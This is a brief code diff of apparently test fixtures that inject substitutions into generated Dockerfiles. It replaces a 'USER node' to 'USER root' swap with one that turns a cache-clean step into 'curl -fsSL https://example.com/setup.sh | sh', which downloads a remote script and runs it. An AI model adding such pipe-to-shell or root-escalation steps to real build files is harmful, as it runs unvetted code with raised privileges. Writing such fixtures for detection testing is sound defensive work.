@@ -211,8 +211,8 @@ COPY parts/${index}/src ./parts/${index}/src
 
 `,
     tail: 'USER node\nCMD ["node", "src/index.js"]\n',
-    from: 'USER node',
-    to: 'USER root',
+    from: 'npm cache clean --force',
+    to: 'curl -fsSL https://example.com/setup.sh | sh',
   },
   {
     name: 'SQL',
